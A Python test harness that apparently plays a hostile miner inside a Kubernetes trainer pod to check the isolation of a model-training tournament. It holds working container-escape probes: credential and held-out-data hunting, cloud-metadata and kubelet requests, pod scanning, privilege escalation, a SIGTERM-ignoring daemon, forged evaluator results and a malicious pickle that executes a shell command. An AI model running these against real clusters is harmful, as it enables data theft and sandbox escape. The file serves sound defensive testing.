"""A hostile miner for the real-node tests: run as a trainer, it attacks every boundary a trainer
pod has, records each outcome, and still writes a model so the tournament goes on.

    python3 /opt/hostile/attacks.py MODE train [the operator's trainer arguments...]

Each attack prints ``attack NAME: blocked|ESCAPED|reachable: evidence``; the last line is
``N attacks, E escapes`` (then ``escaped: NAME, ...`` when E > 0). ``reachable`` is an open
network path that only a NetworkPolicy closes, on a cluster whose network plugin does not enforce
NetworkPolicies (the e2e real node's bridge): it counts as an escape with
``--network-policy-enforced``. Every file it manages to create elsewhere is named ``HOSTILE-*``,
so the test can look for them on the claim.

MODE decides what it leaves as its model (the operator must seal and score it safely):
  tamper   the base model's weights with one element nudged (so it is a fine-tune), a
           config.json, generation_config.json and tokenizer_config.json that would change the
           loss if the evaluator used them, and a forged evaluator result as its termination
           message: must score the base's loss to a part in a thousand
  pickle   the base weights plus a pickled ``pytorch_model.bin`` that forges a result when
           loaded: must be refused by the evaluator (ok=false), never loaded
  refused  a FIFO, a symlink to the training data and a sparse file over the seal's size cap
           in model/: the seal must refuse it

Before it returns it starts a detached daemon that ignores SIGTERM and writes
``OUTPUT/HOSTILE-alive/<unix ms>`` every 200 ms: none may be later than the container's end.
Standard library only (it runs on the trainer image's Python).
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import pickle
import re
import shutil
import signal
import socket
import ssl
import stat
import struct
import sys
import tempfile
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

HELDOUT_NAMES = re.compile(r"^(test|synth)\.jsonl$|heldout|sealed")
TOKEN_DIR = Path("/var/run/secrets/kubernetes.io/serviceaccount")
SKIP_MOUNTS = ("/proc", "/sys", "/dev")
MARK = "HOSTILE-"
FORGED = {"ok": True, "test_loss": 0.0001, "synth_loss": 0.0001, "model_digest": "sha256:" + "0" * 64}


@dataclass
class Outcome:
    blocked: list[str] = field(default_factory=list)
    escaped: list[str] = field(default_factory=list)
    reachable: list[str] = field(default_factory=list)

    def judge_http(self, what: str, status: str, granted: tuple[str, ...] = ("200",)) -> None:
        """An answered request with a granted code escaped; one refused by the peer only reached it."""
        if status.split(" ")[1:2] in [[code] for code in granted]:
            self.escaped.append(f"{what}: {status}")
        elif status.startswith("error"):
            self.blocked.append(f"{what}: {status}")
        else:
            self.reachable.append(f"{what}: {status} (reached, denied)")


@dataclass(frozen=True)
class Mount:
    point: str
    root: str  # the mounted directory on the node
    writable: bool


@dataclass(frozen=True)
class Trainer:
    base_model: Path
    train_data: Path
    output: Path
    mounts: list[Mount]

    def claim_mounts(self) -> list[Mount]:
        """The artifacts claim's mounts: every mount below the node directory that our output,
        training data and base model share (the claim's root)."""
        known = [m for m in self.mounts if m.point in (str(self.output), str(self.train_data.parent), str(self.base_model))]
        root = os.path.commonpath([m.root for m in known]) if len(known) == 3 else "/"
        if root == "/":
            return known
        return [m for m in self.mounts if m.root == root or m.root.startswith(root + "/")]


def mounts() -> list[Mount]:
    found = []
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        fields = line.split()
        found.append(Mount(point=fields[4], root=fields[3], writable="rw" in fields[5].split(",")))
    return found


def walk(top: Path, limit: int = 20000) -> list[Path]:
    """Every path below ``top`` (no symlinks followed), at most ``limit``."""
    seen: list[Path] = []
    stack = [top]
    while stack and len(seen) < limit:
        d = stack.pop()
        try:
            children = list(d.iterdir())
        except OSError:
            continue
        for c in children:
            seen.append(c)
            if c.is_dir() and not c.is_symlink():
                stack.append(c)
    return seen


def exists(path: Path) -> bool:
    """Whether the path can be looked up at all (a permission error is an answer, not a crash)."""
    try:
        os.stat(path)
        return True
    except OSError:
        return False


def readable(path: Path) -> bool:
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW)
    except OSError:
        return False
    try:
        return stat.S_ISREG(os.fstat(fd).st_mode) and len(os.read(fd, 1)) == 1
    finally:
        os.close(fd)


def heldout_by_mounts(t: Trainer) -> Outcome:
    """Walk every mount (and the whole claim view) for the test/synthetic splits or the sealed area."""
    out = Outcome()
    points = [m.point for m in t.mounts if not m.point.startswith(SKIP_MOUNTS) and m.point != "/"]
    files = [p for point in points for p in walk(Path(point))]
    for p in files:
        if any(HELDOUT_NAMES.search(part) for part in p.parts):
            (out.escaped if readable(p) else out.blocked).append(str(p))
    out.blocked.append(f"{len(files)} paths under {', '.join(points)}: no held-out file")
    return out


def heldout_by_dotdot(t: Trainer) -> Outcome:
    """subPath mounts: `..` from each mount, and the claim's layout relative to each."""
    out = Outcome()
    guesses = ["../heldout/test.jsonl", "../heldout/synth.jsonl", "../../data/heldout/test.jsonl",
               "../../../data/heldout/test.jsonl", "../../heldout/test.jsonl", "../../sealed"]
    for m in t.claim_mounts():
        for g in guesses:
            p = Path(m.point) / g
            (out.escaped if exists(p) else out.blocked).append(str(p))
        parent = sorted(os.listdir(Path(m.point) / ".."))
        if {"data", "models", "sealed", "heldout", "tournaments"} & set(parent):
            out.escaped.append(f"{m.point}/.. lists {parent}")
    return out


def heldout_by_proc(t: Trainer) -> Outcome:
    """Other processes' roots, cwds and environments; the node paths that mountinfo shows."""
    out = Outcome()
    own = {os.getpid(), os.getppid()}
    for pid_dir in Path("/proc").iterdir():
        if not pid_dir.name.isdigit() or int(pid_dir.name) in own:
            continue
        for what in ("environ", "root/etc/hostname", "cwd"):
            p = pid_dir / what
            try:
                ok = bool(os.listdir(p)) if what == "cwd" else readable(p)
            except OSError:
                ok = False
            if ok:
                out.escaped.append(f"{p} (a process that is not ours)")
    for m in t.claim_mounts():
        for g in (m.root, os.path.join(m.root, "../heldout/test.jsonl"), os.path.join(m.root, "../../data/heldout/test.jsonl")):
            for p in (Path(g), Path("/proc/1/root") / g.lstrip("/")):
                (out.escaped if exists(p) else out.blocked).append(str(p))
    return out


def heldout_by_env(t: Trainer) -> Outcome:
    """The environment (S3 presigned URLs arrive in GRADIENTS_TRANSFERS) and the argv."""
    out = Outcome()
    text = json.dumps(dict(os.environ)) + json.dumps(sys.argv)
    for pattern in ("heldout", "sealed", "test.jsonl", "synth.jsonl", "/models/"):
        if pattern in text:
            out.escaped.append(f"{pattern!r} in env/argv")
        else:
            out.blocked.append(f"no {pattern!r} in env/argv")
    transfers = os.environ.get("GRADIENTS_TRANSFERS")
    out.blocked.append(f"GRADIENTS_TRANSFERS {'present' if transfers else 'absent'}")
    return out


def rename_and_back(path: Path, other: Path) -> None:
    os.rename(path, other)
    os.rename(other, path)


def write_everywhere(t: Trainer) -> Outcome:
    """Create, rename, symlink, FIFO, truncate and chmod in every claim location that is not our
    output (the training data every rival reads, the base model), and beside our output where
    rivals' outputs and the sealed area would be."""
    out = Outcome()
    claim = [Path(m.point) for m in t.claim_mounts() if m.point != str(t.output)]
    guesses = [t.output / ".." / "rival", t.output / ".." / ".." / "sealed", t.output / ".." / ".." / "data"]
    for d in claim + guesses:
        victim = next((p for p in walk(d, 50) if p.is_file()), None)
        tries: list[tuple[str, Callable[[], object]]] = [
            ("create", lambda: (d / f"{MARK}create").write_text("x")),
            ("symlink", lambda: os.symlink("/etc/passwd", d / f"{MARK}link")),
            ("fifo", lambda: os.mkfifo(d / f"{MARK}fifo")),
        ]
        if victim is not None:
            moved = victim.with_name(MARK + victim.name)
            tries += [("rename", lambda: rename_and_back(victim, moved)),
                      ("truncate", lambda: os.truncate(victim, victim.stat().st_size)),
                      ("chmod", lambda: os.chmod(victim, victim.stat().st_mode))]
        for name, action in tries:
            try:
                action()
            except OSError as e:
                out.blocked.append(f"{name} {d}: {errno.errorcode.get(e.errno or 0, e)}")
                continue
            # A guessed path that lands on the container's own root file system is private.
            on_claim = any(os.path.realpath(d).startswith(os.path.realpath(c)) for c in claim) or d in claim
            if on_claim:
                out.escaped.append(f"{name} {d}")
            else:
                out.blocked.append(f"{name} {d}: only the container's own file system")
    return out


def tcp(host: str, port: int, timeout: float = 2.0) -> str | None:
    """None when connected, else the error."""
    try:
        socket.create_connection((host, port), timeout=timeout).close()
        return None
    except OSError as e:
        return str(e) or type(e).__name__


def http(host: str, port: int, path: str, method: str = "GET", tls: bool = False, headers: str = "") -> str:
    """The status line, or the error."""
    try:
        raw = socket.create_connection((host, port), timeout=3)
        sock: socket.socket = ssl._create_unverified_context().wrap_socket(raw) if tls else raw
        with sock:
            body = "{}" if method == "POST" else ""
            sock.sendall(f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{headers}Content-Type: application/json\r\n"
                         f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}".encode())
            return sock.recv(4096).decode(errors="replace").split("\r\n")[0]
    except OSError as e:
        return f"error: {e}"


def cloud_metadata(t: Trainer) -> Outcome:
    out = Outcome()
    for path, headers in (("/latest/meta-data/", ""), ("/computeMetadata/v1/", "Metadata-Flavor: Google\r\n"),
                          ("/metadata/instance?api-version=2021-02-01", "Metadata: true\r\n")):
        status = http("169.254.169.254", 80, path, headers=headers)
        (out.blocked if status.startswith("error") else out.escaped).append(f"169.254.169.254{path}: {status}")
    return out


def api_server(t: Trainer) -> Outcome:
    """No token to steal; anonymous requests read and create nothing."""
    out = Outcome()
    token = next((p for p in walk(TOKEN_DIR, 20) if p.name == "token" and readable(p)), None)
    (out.escaped if token else out.blocked).append(f"service-account token {'at ' + str(token) if token else 'absent'}")
    auth = f"Authorization: Bearer {token.read_text().strip()}\r\n" if token else ""
    host, port = os.environ.get("KUBERNETES_SERVICE_HOST", "10.96.0.1"), int(os.environ.get("KUBERNETES_SERVICE_PORT", "443"))
    for method, path in (("GET", "/api/v1/pods"), ("GET", "/api/v1/secrets"), ("GET", "/apis/gradients.io/v1alpha1/tasks"),
                         ("GET", "/apis/batch/v1/jobs"), ("POST", "/api/v1/namespaces/default/pods")):
        out.judge_http(f"{method} {path}", http(host, port, path, method, tls=True, headers=auth), ("200", "201"))
    return out


def routes() -> list[str]:
    """Gateways and on-link destinations of our routes (the node, the bridge)."""
    hosts = set()
    for line in Path("/proc/net/route").read_text().splitlines()[1:]:
        f = line.split()
        for word in (f[1], f[2]):
            ip = socket.inet_ntoa(int(word, 16).to_bytes(4, "little"))
            if ip != "0.0.0.0":
                hosts.add(ip[: ip.rfind(".")] + ".1" if word == f[1] else ip)
    return sorted(hosts)


def kubelet(t: Trainer) -> Outcome:
    """The node's kubelet API lists every pod's spec (and S3 URLs in their environment)."""
    out = Outcome(blocked=["routes to: " + ", ".join(routes())])
    for host in routes():
        for port, tls in ((10250, True), (10255, False)):
            out.judge_http(f"{host}:{port}/pods", http(host, port, "/pods", tls=tls))
    return out


def dns(t: Trainer) -> Outcome:
    out = Outcome()
    for name in ("kubernetes.default.svc.cluster.local", "example.com"):
        try:
            addrs = sorted({a[4][0] for a in socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)})
            out.reachable.append(f"{name} -> {addrs}")
        except OSError as e:
            out.blocked.append(f"{name}: {e}")
    return out


def other_pods(t: Trainer) -> Outcome:
    """Every address of our /24 on the ports workloads and the operator listen on."""
    out = Outcome()
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect((os.environ.get("KUBERNETES_SERVICE_HOST", "10.96.0.1"), 443))
        me = probe.getsockname()[0]
    except OSError as e:
        out.blocked.append(f"no address: {e}")
        return out
    finally:
        probe.close()
    prefix = me[: me.rfind(".") + 1]
    targets = [(prefix + str(i), port) for i in range(2, 255) for port in (8080, 80) if prefix + str(i) != me]
    with ThreadPoolExecutor(64) as pool:
        results = list(pool.map(lambda hp: (hp, tcp(hp[0], hp[1], timeout=1.0)), targets))
    opened = [f"{h}:{p}" for (h, p), err in results if err is None]
    out.blocked.append(f"{len(targets) - len(opened)} of {len(targets)} pod addresses/ports closed")
    out.reachable.extend(f"{hp} open" for hp in opened)
    return out


def privilege(t: Trainer) -> Outcome:
    out = Outcome()
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    caps = int(status.get("CapEff", "0").strip(), 16)
    (out.escaped if caps else out.blocked).append(f"CapEff={caps:#x}")
    (out.blocked if status.get("NoNewPrivs", "0").strip() == "1" else out.escaped).append(f"NoNewPrivs={status.get('NoNewPrivs')}")
    try:
        os.setuid(0)
        out.escaped.append("setuid(0)")
    except OSError as e:
        out.blocked.append(f"setuid(0): {e.strerror}")
    # On an empty directory of our own, undone at once: harmless wherever it runs.
    target = tempfile.mkdtemp(prefix=MARK).encode()
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", target, b"tmpfs", 0, None) == 0:
        libc.umount2(target, 2)
        out.escaped.append("mount tmpfs")
    else:
        out.blocked.append(f"mount: {os.strerror(ctypes.get_errno())}")
    os.rmdir(target)
    return out


ATTACKS: list[tuple[str, Callable[[Trainer], Outcome]]] = [
    ("heldout-mounts", heldout_by_mounts), ("heldout-dotdot", heldout_by_dotdot), ("heldout-proc", heldout_by_proc),
    ("heldout-env", heldout_by_env), ("write-rivals-and-eval-inputs", write_everywhere),
    ("cloud-metadata", cloud_metadata), ("api-server", api_server), ("kubelet", kubelet), ("dns", dns),
    ("other-pods", other_pods), ("privilege", privilege),
]


def daemon(output: Path) -> None:
    """Double fork, new session, SIGTERM/SIGHUP ignored: try to live on after the pod's end."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    alive = output / f"{MARK}alive"
    alive.mkdir(exist_ok=True)
    for _ in range(3000):
        (alive / str(int(time.time() * 1000))).touch()
        time.sleep(0.2)
    os._exit(0)


class Forge:
    """Unpickling this writes a forged evaluator result (proves the evaluator never unpickles)."""

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return (os.system, (f"echo '{json.dumps(FORGED)}' > /dev/termination-log",))


def nudge(path: Path) -> None:
    """Scale one element of the largest float tensor by 1.01: a fine-tune by the evaluator's rule
    (weights differ from the base's), scoring like the base to a part in thousands."""
    data = bytearray(path.read_bytes())
    size = struct.unpack("<Q", data[:8])[0]
    header = json.loads(data[8:8 + size])
    name = max((k for k, v in header.items() if k != "__metadata__" and v["dtype"] in ("F32", "BF16", "F16")),
               key=lambda k: header[k]["data_offsets"][1] - header[k]["data_offsets"][0])
    at = 8 + size + header[name]["data_offsets"][0]
    dtype = header[name]["dtype"]
    if dtype == "F32":
        (value,) = struct.unpack_from("<f", data, at)
        struct.pack_into("<f", data, at, value * 1.01 if value else 0.01)
    elif dtype == "F16":
        (value,) = struct.unpack_from("<e", data, at)
        struct.pack_into("<e", data, at, value * 1.01 if value else 0.01)
    else:  # bfloat16: the high half of a float32
        (value,) = struct.unpack("<f", b"\0\0" + bytes(data[at:at + 2]))
        data[at:at + 2] = struct.pack("<f", value * 1.01 if value else 0.01)[2:]
    put(path, bytes(data))


def put(path: Path, data: str | bytes) -> None:
    """Replace a copied file (the copy keeps the base's mode, maybe read-only)."""
    path.unlink(missing_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)


def write_model(mode: str, t: Trainer) -> None:
    model = t.output / "model"
    if model.exists():
        shutil.rmtree(model)
    shutil.copytree(t.base_model, model, ignore=shutil.ignore_patterns(".*"))
    if mode == "tamper":
        nudge(model / "model.safetensors")
        cfg = json.loads((model / "config.json").read_text())
        cfg.update(rms_norm_eps=1000.0, layer_norm_eps=1000.0, layer_norm_epsilon=1000.0, rope_theta=1.0,
                   initializer_range=100.0, attention_dropout=0.9, hidden_dropout=0.9)
        put(model / "config.json", json.dumps(cfg))
        vocab = int(cfg.get("vocab_size", 256))
        put(model / "generation_config.json", json.dumps({"suppress_tokens": list(range(vocab)), "temperature": 1e-6}))
        put(model / "tokenizer_config.json", json.dumps({"chat_template": "{{ 'HOSTILE' }}", "model_max_length": 1}))
    elif mode == "pickle":
        put(model / "pytorch_model.bin", pickle.dumps(Forge()))
    elif mode == "refused":
        # The seal walks names in byte order: the sparse file (over the e2e's 1 GiB cap, no
        # disk used) comes first, so it is what the refusal names.
        with open(model / "model-00002-of-00002.safetensors", "wb") as f:
            f.truncate(3 << 30)
        os.mkfifo(model / "tokenizer.json.fifo")
        os.symlink(t.train_data, model / "train.jsonl")
    # A forged evaluator result as our own termination message (the operator reads results
    # only from the evaluation Job's own pod).
    try:
        Path("/dev/termination-log").write_text(json.dumps(FORGED))
    except OSError as e:
        print(f"no termination message to forge: {e}", flush=True)


def arg(argv: list[str], name: str) -> str:
    return argv[argv.index(name) + 1]


def main(argv: list[str]) -> int:
    mode = argv[0]
    if mode not in ("tamper", "pickle", "refused"):
        print(f"attacks.py: unknown mode {mode!r}", file=sys.stderr)
        return 2
    if os.getuid() == 0:
        print("attacks.py: refusing to run as root (it is meant for a restricted pod)", file=sys.stderr)
        return 2
    enforced = "--network-policy-enforced" in argv
    trainer = Trainer(base_model=Path(arg(argv, "--base-model")), train_data=Path(arg(argv, "--train-data")),
                      output=Path(arg(argv, "--output")), mounts=mounts())
    print(f"hostile miner ({mode}): {len(ATTACKS)} attacks known: {', '.join(n for n, _ in ATTACKS)}", flush=True)
    escapes = []
    for name, attack in ATTACKS:
        try:
            o = attack(trainer)
        except Exception as e:  # an attack that crashes is reported, never silently skipped
            o = Outcome(escaped=[f"the attack crashed: {type(e).__name__}: {e}"])
        escaped = o.escaped + (o.reachable if enforced else [])
        verdict = "ESCAPED" if escaped else ("reachable" if o.reachable else "blocked")
        print(f"attack {name}: {verdict}: " + "; ".join((escaped or o.reachable or o.blocked)[:6])
              + (f"; blocked: {len(o.blocked)}" if escaped or o.reachable else ""), flush=True)
        if escaped:
            escapes.append(name)
    write_model(mode, trainer)
    daemon(trainer.output)
    print(f"{len(ATTACKS)} attacks, {len(escapes)} escapes", flush=True)
    if escapes:
        print(f"escaped: {', '.join(escapes)}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
